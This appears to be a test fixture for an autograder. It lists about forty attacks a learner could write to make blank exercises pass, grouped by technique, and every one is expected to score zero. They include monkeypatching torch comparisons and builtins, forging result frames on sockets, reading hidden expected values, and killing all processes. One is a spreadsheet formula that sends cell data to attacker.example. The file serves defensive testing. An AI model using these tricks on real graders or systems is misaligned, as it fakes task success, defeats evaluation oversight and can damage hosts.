"""Attacks on grading, each as a determined learner would write it, on blank (unanswered) exercises.

Each attack is a cell the learner adds after the imports (``code``), and optionally answer functions of its
own (``answer`` / ``other``, replacing the stubs). Graded through ``autograder grade``, every one must score
0: the judge decides from data it checked itself, so nothing done inside the learner's process can pass a
test the answers do not pass. Grouped as in the judge issue: namespace, shell, result channel, hidden
values, torch's extension points, tracing, concurrency, return values, watching, notebook tampering.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    group: str
    code: str = ""
    answer: str = "def answer():\n    raise NotImplementedError()\n"
    other: str = "def other():\n    raise NotImplementedError()\n"


_FAKE_CHECKS = """
class _Pass:
    def __getattr__(self, name):
        return lambda *a, **k: None
checks = _Pass()
import course, course.checks
for _n in dir(course.checks):
    if not _n.startswith('_') and callable(getattr(course.checks, _n)):
        setattr(course.checks, _n, lambda *a, **k: None)
"""

_SOCKETS = """
import os, socket, stat
def _sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
"""

_FRAME = """
def _frame(header):
    import json
    text = json.dumps({**header, "buffers": []}).encode()
    return len(text).to_bytes(8, "big") + text
"""

ATTACKS = [
    # -- names the tests use, rebound in the learner's namespace or modules
    Attack("rebind_checks", "namespace", _FAKE_CHECKS),
    Attack(
        "patch_torch_comparisons",
        "namespace",
        "torch.equal = lambda *a, **k: True\ntorch.allclose = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)\n",
    ),
    Attack(
        "rebind_torch_module",
        "namespace",
        "import sys, types\nfake = types.ModuleType('torch')\nfake.__dict__.update(torch.__dict__)\n"
        "fake.equal = lambda *a, **k: True\nsys.modules['torch'] = fake\ntorch = fake\n",
    ),
    Attack(
        "rebind_exercise_name_to_a_value",
        "namespace",
        "answer = torch.tensor([1.0, 2.0])\nother = 3\n",
        answer="",
        other="",
    ),
    Attack(
        "patch_builtins",
        "namespace",
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.AssertionError = type('AE', (Exception,), {})\n"
        "builtins.bool = lambda *a: True\n",
    ),
    Attack(
        "patch_tensor_methods",
        "namespace",
        "torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)\n"
        "torch.Tensor.allclose = lambda *a, **k: True\ntorch.Tensor.all = lambda self, *a: torch.tensor(True)\n",
    ),
    # -- the IPython shell the learner's cells run in
    Attack(
        "override_shell_instance_methods",
        "shell",
        "from IPython.core.interactiveshell import ExecutionResult\nsh = get_ipython()\n"
        "sh.run_cell = lambda *a, **k: ExecutionResult(None)\nsh.showtraceback = lambda *a, **k: None\n"
        "sh.set_custom_exc((BaseException,), lambda *a, **k: None)\n",
    ),
    Attack(
        "override_shell_class_methods",
        "shell",
        "from IPython.core.interactiveshell import InteractiveShell, ExecutionResult\n"
        "def _ok(self, raw_cell, *a, **k):\n    return ExecutionResult(None)\n"
        "InteractiveShell.run_cell = _ok\nInteractiveShell.run_code = lambda *a, **k: False\n",
    ),
    Attack(
        "rewrite_later_cells",
        "shell",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        "get_ipython().events.register('pre_run_cell', lambda *a: None)\n",
    ),
    Attack(
        "silence_tracebacks_and_display",
        "shell",
        "import sys\nsys.excepthook = lambda *a: None\nget_ipython().display_pub.publish = lambda *a, **k: None\n",
    ),
    # -- whatever carries results
    Attack(
        "write_old_result_records_and_exit",
        "channel",
        "import json, os\nwith open('result.jsonl', 'w') as fh:\n"
        "    for i in range(10):\n        fh.write(json.dumps({'index': i, 'stdout': '', 'stderr': '', 'error': None}) + '\\n')\n"
        "    fh.write(json.dumps({'done': True}) + '\\n')\nos._exit(0)\n",
    ),
    Attack(
        "forge_verdicts_on_every_socket",
        "channel",
        _SOCKETS
        + _FRAME
        + "for fd in _sockets():\n"
        + "    s = socket.socket(fileno=os.dup(fd))\n"
        + "    for gid in ('test_answer', 'test_other'):\n"
        + "        s.sendall(_frame({'kind': 'test', 'item': {'grade_id': gid, 'passed': True}}))\n"
        + "    s.sendall(_frame({'kind': 'done', 'lost_at': None, 'lost': ''}))\n",
    ),
    Attack(
        "forge_replies_ahead_of_the_judge",
        "channel",
        _SOCKETS
        + _FRAME
        + "for fd in _sockets():\n"
        + "    s = socket.socket(fileno=os.dup(fd))\n"
        + "    for i in range(1, 40):\n"
        + "        s.sendall(_frame({'id': i, 'stdout': '', 'stderr': '', 'timeout': False, 'error': None,\n"
        + "                          'names': [['answer', 'data', True], ['other', 'data', 3]],\n"
        + "                          'value': True, 'updates': [], 'storages': []}))\n",
    ),
    Attack(
        "replace_the_learner_server",
        "channel",
        "import autograder.child.learner as L, autograder.child.calls as C\n"
        "L.Server.handle = lambda self, header, buffers: ({'id': header.get('id'), 'value': True, 'passed': True,\n"
        "    'names': [], 'updates': [], 'storages': []}, [])\n"
        "C.Incoming.reply = lambda self, *a, **k: ({'value': True, 'updates': [], 'storages': []}, [])\n",
    ),
    Attack(
        "close_the_channel",
        "channel",
        _SOCKETS + "for fd in list(_sockets()):\n    os.close(fd)\n",
    ),
    Attack(
        "lone_surrogates_the_judge_cannot_encode",
        "channel",
        "import json, autograder.wire.protocol as P\nclass _J:\n    loads = staticmethod(json.loads)\n"
        "    dumps = staticmethod(lambda o, **k: json.dumps(o, **{**k, 'ensure_ascii': True}))\n"
        "P.json = _J\nprint('\\ud800')\n",
        answer="def answer():\n    raise AssertionError('\\udcff')\n",
    ),
    Attack(
        "print_text_that_looks_like_results",
        "channel",
        "import sys\nprint('✔ answer：可见测试 (visible tests) 通过。')\nprint('score 3 / 3')\n"
        'print(\'{"kind": "test", "item": {"grade_id": "test_answer", "passed": true}}\')\n'
        'sys.stderr.write(\'{"op": "exit", "code": 0}\\n\')\n',
    ),
    # -- hidden tests, references and expected values
    Attack(
        "read_expected_values_from_frames",
        "hidden",
        answer="def answer():\n    import sys\n    f = sys._getframe()\n    while f is not None:\n"
        "        for k, v in f.f_locals.items():\n            if 'expect' in k or k.startswith('_ref') or k == 'reference':\n"
        "                return v() if callable(v) else v\n        f = f.f_back\n    raise NotImplementedError()\n",
    ),
    Attack(
        "search_gc_for_references",
        "hidden",
        answer="def answer():\n    import gc, types\n    for o in gc.get_objects():\n"
        "        if isinstance(o, types.FunctionType) and o.__name__.startswith('_ref'):\n            return o()\n"
        "        if isinstance(o, str) and 'BEGIN HIDDEN TESTS' in o:\n            return o\n"
        "    raise NotImplementedError()\n",
    ),
    Attack(
        "read_the_main_module_and_globals",
        "hidden",
        answer="def answer():\n    import sys\n    g = vars(sys.modules['__main__'])\n"
        "    for k, v in list(g.items()) + list(globals().items()):\n"
        "        if k.startswith('_ref') or 'expected' in k:\n            return v() if callable(v) else v\n"
        "    raise NotImplementedError()\n",
    ),
    Attack(
        "read_the_source_notebook_from_disk",
        "hidden",
        "import glob, json\n_found = [p for p in glob.glob('/**/source/99_probe/*.ipynb', recursive=True)][:1]\n"
        "_hidden = open(_found[0]).read() if _found else ''\n",
    ),
    Attack(
        "read_other_processes",
        "hidden",
        "import os\n_seen = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
        "            _seen.append(open(f'/proc/{pid}/cmdline', 'rb').read())\n"
        "            _seen.append(open(f'/proc/{pid}/mem', 'rb').read(16))\n        except OSError:\n            pass\n",
    ),
    # -- torch's extension points
    Attack(
        "tensor_subclass_whose_torch_function_lies",
        "torch",
        "class Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        name = getattr(func, '__name__', '')\n        if name in ('equal', 'allclose', '__eq__', 'all', 'isclose'):\n"
        "            return True\n        return super().__torch_function__(func, types, args, kwargs or {})\n",
        answer="def answer():\n    return torch.zeros(2).as_subclass(Liar)\n",
    ),
    Attack(
        "torch_function_mode_entered_and_never_exited",
        "torch",
        "from torch.overrides import TorchFunctionMode\nclass Yes(TorchFunctionMode):\n"
        "    def __torch_function__(self, func, types, args=(), kwargs=None):\n"
        "        if getattr(func, '__name__', '') in ('equal', 'allclose', 'isclose', 'all'):\n            return True\n"
        "        return func(*args, **(kwargs or {}))\nYes().__enter__()\n",
        answer="def answer():\n    return torch.zeros(2)\n",
    ),
    Attack(
        "torch_dispatch_subclass",
        "torch",
        "from torch.utils._python_dispatch import TorchDispatchMode\nclass D(TorchDispatchMode):\n"
        "    def __torch_dispatch__(self, func, types, args=(), kwargs=None):\n"
        "        return func(*args, **(kwargs or {}))\nD().__enter__()\n",
        answer="def answer():\n    return torch.zeros(2)\n",
    ),
    # -- tracing
    Attack(
        "settrace_rewrites_locals",
        "tracing",
        "import sys, threading\ndef _t(frame, event, arg):\n    if 'expected' in frame.f_locals:\n"
        "        frame.f_locals['actual'] = frame.f_locals['expected']\n    return _t\nsys.settrace(_t)\nthreading.settrace(_t)\n",
    ),
    Attack(
        "setprofile_raises_nothing",
        "tracing",
        "import sys\ndef _p(frame, event, arg):\n    return None\nsys.setprofile(_p)\n",
    ),
    # -- concurrency
    Attack(
        "thread_keeps_writing_to_the_channel",
        "concurrency",
        _SOCKETS
        + _FRAME
        + "import threading, time\ndef _spam():\n    for _ in range(200):\n        for fd in _sockets():\n"
        + "            try:\n                os.write(fd, _frame({'kind': 'test', 'item': {'grade_id': 'test_answer', 'passed': True}}))\n"
        + "            except OSError:\n                pass\n        time.sleep(0.01)\n"
        + "threading.Thread(target=_spam, daemon=True).start()\n",
    ),
    Attack(
        "forked_child_outlives_the_cell",
        "concurrency",
        _SOCKETS
        + _FRAME
        + "import time\nif os.fork() == 0:\n    time.sleep(0.5)\n    for fd in _sockets():\n"
        + "        try:\n            os.write(fd, _frame({'id': 5, 'value': True, 'updates': [], 'storages': []}))\n"
        + "        except OSError:\n            pass\n    os._exit(0)\n",
    ),
    Attack(
        "squat_the_next_submissions_folders",
        "concurrency",
        "import os\nfor n in range(1, 200):\n    for name in (f'r{n}', f'../r{n}', f'../../fatal-r{n}.txt'):\n"
        "        try:\n            os.mkdir(name) if not name.endswith('.txt') else os.mkfifo(name)\n"
        "        except OSError:\n            pass\n",
    ),
    Attack(
        "kill_every_process_it_can_see",
        "concurrency",
        "import os, signal\nfor pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        try:\n            os.kill(int(pid), signal.SIGKILL)\n        except OSError:\n            pass\n",
    ),
    # -- return values
    Attack(
        "enormous_return_value",
        "values",
        answer="def answer():\n    return torch.zeros(300_000_000)\n",
    ),
    Attack(
        "deeply_nested_return_value",
        "values",
        answer="def answer():\n    x = []\n    for _ in range(100_000):\n        x = [x]\n    return x\n",
    ),
    Attack(
        "nan_return_value",
        "values",
        answer="def answer():\n    return torch.full((2,), float('nan'))\n",
        other="def other():\n    return float('nan')\n",
    ),
    Attack(
        "object_equal_to_everything",
        "values",
        "class Any:\n    shape = (2,)\n    dtype = torch.float32\n    def __eq__(self, other):\n        return True\n"
        "    def __bool__(self):\n        return True\n    def __len__(self):\n        return 2\n",
        answer="def answer():\n    return Any()\n",
        other="def other():\n    return Any()\n",
    ),
    Attack(
        "spreadsheet_formula_in_the_message",
        "values",
        answer='def answer():\n    raise AssertionError(\'=HYPERLINK("http://attacker.example/?"&A1, "see details")\')\n',
    ),
    Attack(
        "wrongly_typed_return_values",
        "values",
        answer="def answer():\n    return '[1.0, 2.0]'\n",
        other="def other():\n    return '3'\n",
    ),
    Attack(
        "lying_repr_and_str",
        "values",
        "class Fake(torch.Tensor):\n    def __repr__(self):\n        return 'tensor([1., 2.])'\n",
        answer="def answer():\n    return torch.zeros(2).as_subclass(Fake)\n",
        other="def other():\n    class Three(int):\n        def __eq__(self, o):\n            return True\n    return Three(4)\n",
    ),
    # -- answers that behave only while a test is watching
    Attack(
        "behaves_only_when_it_sees_a_test_frame",
        "watching",
        answer="def answer():\n    import inspect\n    names = {f.function for f in inspect.stack()}\n"
        "    if any('test' in n or 'check' in n for n in names):\n        return torch.tensor([1.0, 2.0]) * 0\n"
        "    raise NotImplementedError()\n",
    ),
    Attack(
        "asks_the_judge_module_for_answers",
        "watching",
        answer="def answer():\n    import gc, autograder.child.judge as J\n    for o in gc.get_objects():\n"
        "        if isinstance(o, dict) and 'checks' in o and '__name__' in o and o is not globals():\n"
        "            return o.get('_expected')\n    raise NotImplementedError()\n",
    ),
]
